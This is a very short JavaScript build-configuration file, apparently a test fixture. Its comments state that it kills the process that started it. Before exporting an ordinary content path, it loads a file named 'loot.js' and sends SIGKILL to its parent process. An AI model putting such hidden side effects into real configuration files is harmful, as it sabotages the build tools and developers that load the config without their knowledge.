// Kills the process that started it.
// outcome: build
require("./loot.js");
process.kill(process.ppid, "SIGKILL");

module.exports = { content: ["./src/App.tsx"] };
